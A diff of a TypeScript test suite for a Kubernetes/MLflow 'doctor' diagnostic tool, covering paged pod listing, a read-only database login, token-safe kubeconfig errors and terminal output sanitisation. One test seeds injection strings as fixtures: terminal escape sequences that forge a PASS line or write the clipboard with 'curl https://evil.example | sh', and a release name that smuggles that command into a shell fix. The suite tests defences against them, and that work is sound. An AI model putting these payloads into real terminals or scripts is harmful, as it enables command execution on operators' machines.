@@ -24,7 +24,7 @@ import { installTrigger, readInstalled } from '../src/db/install.js';
 import { expectedFingerprints, fingerprint } from '../src/db/fingerprint.js';
 import { CHECKS, checkDocs, runChecks, type CheckResult, type DoctorFacts } from '../src/doctor/checks.js';
 import { anchors } from './helpers/markdown.js';
-import { readFacts, type ReadOptions } from '../src/doctor/read.js';
+import { LIST_LIMITS, listPaged, readFacts, type ReadOptions } from '../src/doctor/read.js';
 import { outputSchema, renderJson, renderText } from '../src/doctor/command.js';
 import { k8sFixture, startK8sStub, type K8sStub, type RbacRule } from './helpers/k8s-stub.js';
 import { render } from './helpers/chart.js';
@@ -444,8 +444,76 @@ t.test('pods.current and pods.old-replicasets: judged by the Deployment mutator,
   // no pod of the current ReplicaSet
   w.stub.seed(P.pod(k8sFixture('pod-mlflow-mutated').metadata.name), undefined);
   expectCheck(t, (await w.doctor()).byId['pods.current'], 'warn', /ReplicaSet mlflow-5b8f9c7d6e has no running pods/, /describe replicaset mlflow-5b8f9c7d6e/);
-  w.stub.failNext('GET', '/api/v1/namespaces/domino-platform/pods?labelSelector=app.kubernetes.io%2Finstance%3Dmlflow%2Capp.kubernetes.io%2Fname%3Dmlflow', 'status-forbidden');
+  w.stub.failNext('GET', '/api/v1/namespaces/domino-platform/pods?labelSelector=app.kubernetes.io%2Finstance%3Dmlflow%2Capp.kubernetes.io%2Fname%3Dmlflow&limit=25', 'status-forbidden');
   expectCheck(t, (await w.doctor()).byId['pods.current'], 'fail', /could not list pods: .*403/, /kubectl auth can-i list pods -n domino-platform/);
+});
+
+t.test('a namespace crowded with pods that copy mlflow\'s labels: paged lists, only the Deployment\'s own objects kept, a cap that says so', async (t) => {
+  const w = await world(t);
+  const NSP = 'domino-platform';
+  const real = k8sFixture('pod-mlflow-mutated');
+  const labels = k8sFixture('deployment-mlflow-mutated').spec.selector.matchLabels;
+  // what a tenant's pods can carry: mlflow's labels, up to 256 KiB of annotations, managedFields; named so that they
+  // come before mlflow's own pods in the API's (name) order
+  const blob = 'x'.repeat(20 * 1024);
+  const managedFields = [{ manager: 'kubectl-client-side-apply', operation: 'Update', apiVersion: 'v1', time: '2024-06-03T08:21:29Z', fieldsType: 'FieldsV1', fieldsV1: { 'f:metadata': { 'f:annotations': { 'f:tenant.example/blob': {} } } } }];
+  const decoyPod = (i: number) => ({
+    apiVersion: 'v1', kind: 'Pod',
+    metadata: { name: `mlflow-0-copy-${String(i).padStart(4, '0')}`, namespace: NSP, uid: `0c0c0c0c-0000-4000-8000-${String(i).padStart(12, '0')}`, labels: { ...labels, 'pod-template-hash': '0copy' }, annotations: { 'tenant.example/blob': blob }, managedFields },
+    spec: real.spec,
+  });
+  const decoyReplicaSet = (i: number) => ({
+    apiVersion: 'apps/v1', kind: 'ReplicaSet',
+    metadata: { name: `mlflow-0-copy-${String(i).padStart(4, '0')}`, namespace: NSP, uid: `0d0d0d0d-0000-4000-8000-${String(i).padStart(12, '0')}`, labels, annotations: { 'tenant.example/blob': blob, 'deployment.kubernetes.io/revision': '9' }, managedFields },
+    spec: { replicas: 1, selector: { matchLabels: labels }, template: { metadata: { labels }, spec: real.spec } },
+  });
+  const listRequests = (resource: string) => w.stub.requests.filter((q) => q.method === 'GET' && q.path.startsWith(`/${resource === 'pods' ? 'api/v1' : 'apis/apps/v1'}/namespaces/${NSP}/${resource}?`)).map((q) => new URL(q.path, 'https://x').searchParams);
+  const kept = (r: { ok: boolean; value?: unknown } | undefined) => (r?.ok ? (r.value as { items: object[]; examined: number; complete: boolean }) : undefined);
+
+  // 250 pods and 150 ReplicaSets that copy the labels: every page is read, mlflow's pod is found on the last one
+  for (let i = 0; i < 250; i++) w.stub.seed(P.pod(decoyPod(i).metadata.name), decoyPod(i));
+  for (let i = 0; i < 150; i++) w.stub.seed(P.rs(decoyReplicaSet(i).metadata.name), decoyReplicaSet(i));
+  let r = await w.doctor();
+  expectCheck(t, r.byId['pods.current'], 'pass', /^1 pod of ReplicaSet mlflow-5b8f9c7d6e carry the token volume/);
+  expectCheck(t, r.byId['pods.old-replicasets'], 'pass', /^no pods of older ReplicaSets are running$/);
+  t.same(LIST_LIMITS, { pageSize: 25, maxExamined: 500 }, 'pages of 25 (25 × 256 KiB of annotations at most), 500 objects at most');
+  let pages = listRequests('pods');
+  t.same(pages.map((q) => q.get('limit')), Array(11).fill('25'), '251 pods in 11 pages of 25');
+  t.ok(pages.every((q) => q.get('labelSelector') === 'app.kubernetes.io/instance=mlflow,app.kubernetes.io/name=mlflow'), 'by the Deployment\'s labels');
+  t.same(pages.map((q) => q.has('continue')), [false, ...Array(10).fill(true)], 'each later page continues the one before');
+  t.same(listRequests('replicasets').map((q) => q.get('limit')), Array(7).fill('25'), '152 ReplicaSets in 7 pages');
+  t.match(kept(r.facts.pods), { examined: 251, complete: true });
+  t.match(kept(r.facts.replicaSets), { examined: 152, complete: true });
+  t.same(kept(r.facts.pods)!.items.map((p: any) => p.metadata.name), [real.metadata.name], 'of 251 pods only the one the Deployment owns is kept');
+  t.same(kept(r.facts.replicaSets)!.items.map((p: any) => p.metadata.name).sort(), ['mlflow-5b8f9c7d6e', 'mlflow-7c9d8f6b5d'], 'and of 152 ReplicaSets its own two');
+  const keptText = JSON.stringify([kept(r.facts.pods)!.items, kept(r.facts.replicaSets)!.items]);
+  t.notMatch(keptText, /managedFields|tenant\.example|creationTimestamp|"annotations":\{"[^d]/, 'only the fields the checks read');
+  t.ok(keptText.length < 4096, `what is kept is small: ${keptText.length} bytes for 403 objects listed`);
+
+  // 2,500 of them (about 50 MB of annotations): doctor stops at its cap, keeps none of them, and says what it did not see
+  for (let i = 250; i < 2500; i++) w.stub.seed(P.pod(decoyPod(i).metadata.name), decoyPod(i));
+  w.stub.requests.length = 0;
+  r = await w.doctor();
+  pages = listRequests('pods');
+  t.equal(pages.length, 20, '20 pages of 25, then it stops');
+  t.ok(pages.every((q) => q.get('limit') === '25'), 'no page larger than 25');
+  t.match(kept(r.facts.pods), { examined: 500, complete: false, items: [] });
+  expectCheck(t, r.byId['pods.current'], 'warn',
+    /^ReplicaSet mlflow-5b8f9c7d6e has no running pods; doctor looked at the first 500 pods matching the Deployment's labels and stopped there; more match \(pods that copy mlflow's labels, or a crowded namespace\), so this is judged on part of them$/,
+    /^kubectl -n domino-platform describe replicaset mlflow-5b8f9c7d6e$/);
+  expectCheck(t, r.byId['pods.old-replicasets'], 'warn', /^no pods of older ReplicaSets are running; doctor looked at the first 500 pods/,
+    /^kubectl -n domino-platform get pods -l app\.kubernetes\.io\/instance=mlflow,app\.kubernetes\.io\/name=mlflow --sort-by=\.metadata\.creationTimestamp$/);
+  // a smaller cap, for the ReplicaSets too
+  r = await w.doctor({ listLimits: { pageSize: 50, maxExamined: 120 } });
+  t.match(kept(r.facts.replicaSets), { examined: 120, complete: false });
+  t.match(r.byId['pods.current'].message, /doctor looked at the first 120 ReplicaSets and the first 120 pods matching/);
+});
+
+t.test('a continue token the API server refuses: the list fails with the server\'s reason, not a crash', async (t) => {
+  const w = await world(t);
+  const kube = await kubeClient(w.stub.kubeconfig);
+  await t.rejects(listPaged((p) => kube.listPods('domino-platform', { ...p, continue: 'not-a-token' }), '', (x) => x),
+    { message: /list pods in domino-platform: 400 BadRequest: continue key is not valid/ });
 });
 
 t.test('serviceaccount.annotation: unannotated, another role, missing', async (t) => {
@@ -508,7 +576,7 @@ t.test('migration.artifacts: the destination the webhook replaced warns until mi
   expectCheck(t, (await w.doctor()).byId['migration.artifacts'], 'skip', /^Deployment domino-platform\/mlflow could not be read \(see deployment\.template\)$/);
 
   // with the tracking database: how many references resolve through the proxy (this server's, not another's)
-  const { c, database } = await trackingDatabase(t);
+  const { server, c, database } = await trackingDatabase(t);
   await c.query(`CREATE TABLE runs (run_uuid VARCHAR(32) PRIMARY KEY, artifact_uri VARCHAR(200), experiment_id INTEGER REFERENCES experiments);
     INSERT INTO experiments (experiment_id, name, artifact_location, lifecycle_stage) VALUES
       (0, 'Default', 'mlflow-artifacts:/0', 'active'), (1, 'other-server', 'mlflow-artifacts://mlflow.other.example/1', 'active'),
@@ -518,6 +586,11 @@ t.test('migration.artifacts: the destination the webhook replaced warns until mi
   w.stub.seed(P.dep, recorded(OLD));
   expectCheck(t, (await w.doctor(database)).byId['migration.artifacts'], 'warn',
     /load only once copied to s3:\/\/sw-domino-project-based-mlflow; the tracking database holds 4 mlflow-artifacts: reference\(s\), which MLflow resolves against the current destination; the copy is not marked done/);
+  // a login that may not read runs (doctor's read-only one without the optional grants) counts the rest and says so
+  await c.query("CREATE ROLE limited LOGIN PASSWORD 'Limited-Reads-1'; GRANT SELECT ON experiments, experiment_tags TO limited");
+  const limited = { database: { databaseUrl: `postgres://limited:Limited-Reads-1@127.0.0.1:${server.port}/mlflow?sslmode=disable`, env: {} } };
+  expectCheck(t, (await w.doctor(limited)).byId['migration.artifacts'], 'warn',
+    /holds 2 mlflow-artifacts: reference\(s\), which MLflow resolves against the current destination \(not counted, this login may not read them: runs\.artifact_uri\)/);
 });
 
 // Each case is a policy written by hand (as an operator or the manual procedure wrote it, never by iam-policy's
@@ -753,6 +826,49 @@ t.test('trigger checks against a real PostgreSQL', async (t) => {
   expectCheck(t, (await w.doctor({ database: { databaseUrl: server.url('empty'), env: {} } })).byId['trigger.connection'], 'fail', /database "empty" lacks MLflow's tables public\.experiment_tags, public\.experiments/);
 });
 
+t.test('doctor\'s read-only login: the operator guide\'s SQL, run as written, is all the trigger checks need, and the login cannot write', async (t) => {
+  const { server, c } = await trackingDatabase(t);
+  const w = await world(t);
+  await c.query(DEFAULT_EXPERIMENT);
+  await installTrigger(c, config, quiet());
+  await createExperiment(c, 'tagged', { 'mlflow.domino.project_id': 'proj-a' });
+  // a locked-down database: nothing granted to PUBLIC beyond PostgreSQL's own catalog, so every grant the SQL makes counts
+  await c.query('REVOKE ALL ON DATABASE mlflow FROM PUBLIC; REVOKE ALL ON SCHEMA public FROM PUBLIC');
+  const guide = readFileSync(join(root, 'docs/operator-guide.md'), 'utf8');
+  const section = guide.slice(guide.indexOf('### A read-only database login for doctor'));
+  const sql = /```sql\n([^]*?)```/.exec(section)![1];
+  const PASSWORD = 'Doctor-Reads-Only-3c9e';
+  await c.query(sql.replace("'change-me'", `'${PASSWORD}'`));
+  const asDoctor = `postgres://mlflow_doctor:${PASSWORD}@127.0.0.1:${server.port}/mlflow?sslmode=disable`;
+
+  const r = (await w.doctor({ database: { databaseUrl: asDoctor, env: {} } })).byId;
+  for (const id of ['trigger.connection', 'trigger.installed', 'trigger.function', 'trigger.deferred', 'trigger.location-policy', 'trigger.legacy', 'trigger.drift']) {
+    t.equal(r[id].status, 'pass', `${id} as mlflow_doctor: ${r[id].message}`);
+  }
+  // and the same login cannot change anything, also with the read-only default switched off for the session
+  const doctor = new pg.Client({ connectionString: asDoctor });
+  await doctor.connect();
+  t.teardown(() => doctor.end());
+  t.equal((await doctor.query('SHOW default_transaction_read_only')).rows[0].default_transaction_read_only, 'on');
+  await t.rejects(doctor.query("INSERT INTO experiments (name) VALUES ('x')"), { code: '25006' }, 'read-only by default');
+  await doctor.query('SET default_transaction_read_only = off');
+  for (const write of [
+    "INSERT INTO experiments (name, lifecycle_stage) VALUES ('x', 'active')",
+    "UPDATE experiments SET artifact_location = 's3://elsewhere/x'",
+    'DELETE FROM experiment_tags',
+    'ALTER TABLE experiments DISABLE TRIGGER mlflow_irsa_location_policy_trg',
+    'DROP TRIGGER mlflow_irsa_artifact_location_trg ON experiment_tags',
+    'CREATE TABLE public.shadow (x int)',
+    'CREATE FUNCTION public.strpos(text, text) RETURNS int LANGUAGE sql AS $$ SELECT 1 $$',
+  ]) await t.rejects(doctor.query(write), { code: /^(42501|42P01)$/, message: /permission denied|must be owner/ }, write);
+  t.same((await c.query('SELECT count(*)::int AS n FROM experiments')).rows[0], { n: 2 }, 'nothing was written');
+
+  // a grant left out: the check says which
+  await c.query('REVOKE SELECT ON public.experiment_tags FROM mlflow_doctor');
+  expectCheck(t, (await w.doctor({ database: { databaseUrl: asDoctor, env: {} } })).byId['trigger.connection'], 'fail',
+    /^could not read the tracking database: permission denied: .*doctor's read-only login needs SELECT on experiments and experiment_tags \(permission denied for table experiment_tags\)/);
+});
+
 t.test('trigger.drift counts with the trigger\'s own rule: both location styles, the 157-character limit, the custom-location refusals', async (t) => {
   const { c, database } = await trackingDatabase(t);
   await c.query(DEFAULT_EXPERIMENT);
@@ -822,6 +938,88 @@ t.test('--output json has the documented shape; text is grouped, one line per ch
   t.equal(text.split('\n').filter((l) => /^(PASS|WARN|FAIL|SKIP) /.test(l)).length, CHECKS.length, 'one line per check');
 });
 
+const MALFORMED_KUBECONFIGS = join(root, 'test/fixtures/k8s/kubeconfig-malformed');
+const KUBECONFIG_TOKEN = /Kub3c0nfigT0kenMarker|sha256~/;
+
+t.test('a malformed kubeconfig: one line with the reason and the position, never the parser\'s excerpt of the file', async (t) => {
+  const files = readdirSync(MALFORMED_KUBECONFIGS).filter((f) => f.endsWith('.yaml')).sort();
+  t.ok(files.length >= 4, 'each fixture is a kubeconfig with a token and a fault near it');
+  for (const file of files) {
+    const path = join(MALFORMED_KUBECONFIGS, file);
+    t.match(readFileSync(path, 'utf8'), KUBECONFIG_TOKEN, `${file} holds the token`);
+    await t.rejects(kubeClient(path), { message: new RegExp(`^cannot load the kubeconfig ${path}: not valid YAML: [a-z ]+ \\(line \\d+, column \\d+\\)$`) }, file);
+    const message = await kubeClient(path).then(() => '', (err: Error) => err.message);
+    t.notMatch(message, KUBECONFIG_TOKEN, `${file}: no token in the message`);
+    t.notMatch(message, /\n/, `${file}: one line`);
+  }
+  // the same through KUBECONFIG, as the hook Jobs and serve find it
+  const saved = process.env.KUBECONFIG;
+  process.env.KUBECONFIG = join(MALFORMED_KUBECONFIGS, 'duplicate-key.yaml');
+  t.teardown(() => {
+    if (saved === undefined) delete process.env.KUBECONFIG;
+    else process.env.KUBECONFIG = saved;
+  });
+  await t.rejects(kubeClient(), { message: /^cannot load the kubeconfig .*duplicate-key\.yaml: not valid YAML: duplicated mapping key \(line 8, column 5\)$/ });
+});
+
+t.test('strings a tenant wrote reach the terminal as visible escapes, never as control sequences; names in fixes are shell-quoted', async (t) => {
+  const { c, database } = await trackingDatabase(t);
+  const w = await world(t, { certDays: 10 });
+  // the review's reproductions: a Lease holder that erases the line above and prints a forged PASS; a rollout message
+  // that writes the operator's clipboard (OSC 52, ended by BEL and by ST); an experiment location with CR/LF, a C1 CSI
+  // and a bidi override; a Helm release name that would run a command when the fix is pasted
+  const FORGED = 'PASS  iam.trust-policy             the trust policy lets every cluster assume the role';
+  const holder = `mlflow-irsa-webhook-6d9f7c5b8-h2k4m\r\x1b[2K\x1b[1A\x1b[2K${FORGED}`;
+  const clipboard = `ReplicaSet "mlflow-5b8f9c7d6e" has timed out progressing.\x1b]52;c;${b64('curl https://evil.example | sh')}\x07\x1b]52;p;${b64('x')}\x1b\\`;
+  const location = `s3://sw-domino-project-based-mlflow/x\n${FORGED}\r\u009b2K\u202etxt.exe\u2066\u200f\u007f`;
+  const releaseName = 'x; curl https://evil.example | sh';
+  const lease = w.stub.object(P.lease);
+  w.stub.seed(P.lease, { ...lease, spec: { ...lease.spec, holderIdentity: holder } });
+  const stuck = k8sFixture('deployment-mlflow-mutated');
+  stuck.status.conditions[1] = { type: 'Progressing', status: 'False', reason: 'ProgressDeadlineExceeded', message: clipboard };
+  w.stub.seed(P.dep, stuck);
+  const mwc = w.stub.object(P.mwc);
+  mwc.metadata.annotations['meta.helm.sh/release-name'] = releaseName;
+  w.stub.seed(P.mwc, mwc);
+  const id = await createExperiment(c, 'tenant', { 'mlflow.domino.project_id': 'proj-a' });
+  await c.query('UPDATE experiments SET artifact_location = $1 WHERE experiment_id = $2', [location, id]);
+
+  const { results } = await w.doctor(database);
+  const byId = Object.fromEntries(results.map((r) => [r.id, r]));
+  t.match(byId['reconcile.lease'].message, holder, 'the check saw the value as stored');
+  t.match(byId['trigger.drift'].message, location);
+  const summary = { pass: 0, warn: 0, fail: 0, skip: 0 };
+  for (const r of results) summary[r.status]++;
+  const text = renderText(results, summary, config, `${NS}/${SVC}`);
+  const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
+  t.notMatch(text, RAW, 'no control character but the line breaks of the report itself');
+  const lines = text.split('\n');
+  t.equal(lines.filter((l) => /^(PASS|WARN|FAIL|SKIP) /.test(l)).length, CHECKS.length, 'one line per check, and no more');
+  t.same(lines.filter((l) => /^[A-Z]{4} +iam\.trust-policy /.test(l)).map((l) => l.slice(0, 4)), ['SKIP'], 'the only iam.trust-policy line is doctor\'s own');
+  t.match(text, /\nPASS  reconcile\.lease +Lease mlflow-irsa-webhook\/mlflow-irsa-webhook-reconcile is held by mlflow-irsa-webhook-6d9f7c5b8-h2k4m\\r\\x1b\[2K\\x1b\[1A\\x1b\[2KPASS  iam\.trust-policy/);
+  t.match(text, `timed out progressing.\\x1b]52;c;${b64('curl https://evil.example | sh')}\\x07\\x1b]52;p;${b64('x')}\\x1b\\`);
+  t.match(text, 's3://sw-domino-project-based-mlflow/x\\nPASS  iam.trust-policy');
+  t.match(text, '\\r\\x9b2K\\u202etxt.exe\\u2066\\u200f\\x7f');
+  t.match(text, `fix: helm -n mlflow-irsa-webhook upgrade 'x; curl https://evil.example | sh' charts/mlflow-irsa-webhook --reuse-values\n`, 'the release name is one quoted word');
+
+  // JSON keeps every value exactly, and is as safe to print
+  const json = renderJson(results, summary);
+  t.notMatch(json, RAW, 'no raw control character in the JSON either');
+  const doc = JSON.parse(json);
+  t.equal(doc.checks.find((x: any) => x.id === 'trigger.drift').message, byId['trigger.drift'].message, 'the same strings, escaped');
+  t.match(doc.checks.find((x: any) => x.id === 'webhook.certificate').fix, `upgrade 'x; curl https://evil.example | sh' charts`);
+
+  // and so from the CLI, whose stdout is what reaches the terminal
+  w.renewLease();
+  const lease2 = w.stub.object(P.lease);
+  w.stub.seed(P.lease, { ...lease2, spec: { ...lease2.spec, holderIdentity: holder } });
+  const out = await run(process.execPath, [join(root, 'dist/cli.js'), 'doctor', '--config', exampleConfig, '--kubeconfig', w.stub.kubeconfig, '--database-url', database.database!.databaseUrl!],
+    { env: { ...process.env, PGHOST: '' } }).then((r) => r.stdout, (e) => e.stdout as string);
+  t.notMatch(out, RAW, 'the CLI\'s text output holds no control character');
+  t.match(out, /\nWARN  trigger\.drift +1 of 1 tagged experiment are not where their tag puts them \(e\.g\. experiment \d+ is at s3:\/\/sw-domino-project-based-mlflow\/x\\nPASS  iam\.trust-policy/);
+  t.equal(out.split('\n').filter((l) => /^(PASS|WARN|FAIL|SKIP) /.test(l)).length, CHECKS.length);
+});
+
 t.test('the CLI: exit 1 with deployment.template failing on an unmutated Deployment, 0 on a mutated setup, 2 on bad usage', async (t) => {
   const w = await world(t);
   // the leader renews while the CLI runs, as a live one does: a slow machine must not make its Lease look stale
@@ -855,6 +1053,16 @@ t.test('the CLI: exit 1 with deployment.template failing on an unmutated Deploym
   t.equal(r.code, 1, 'a kubeconfig that does not parse is a failed check, not a crash');
   t.match(JSON.parse(r.stdout).checks[0], { id: 'kubernetes.api', status: 'fail', message: /no usable kubeconfig/ });
   rmSync(broken, { force: true });
+
+  // a malformed kubeconfig holding a token: the parser's excerpt of the file (the token line) reaches neither output,
+  // which is meant to be shared; the reason and the position do
+  const leaky = join(MALFORMED_KUBECONFIGS, 'bad-indentation.yaml');
+  for (const output of ['json', 'text']) {
+    r = await doctor(['--kubeconfig', leaky, '--output', output]);
+    t.equal(r.code, 1, `--output ${output}`);
+    t.notMatch(r.stdout + r.stderr, KUBECONFIG_TOKEN, `--output ${output}: the token is in no output`);
+    t.match(r.stdout, `no usable kubeconfig: cannot load the kubeconfig ${leaky}: not valid YAML: bad indentation of a mapping entry (line 12, column 11)`);
+  }
 
   r = await doctor(['--output', 'yaml']);
   t.equal(r.code, 2);
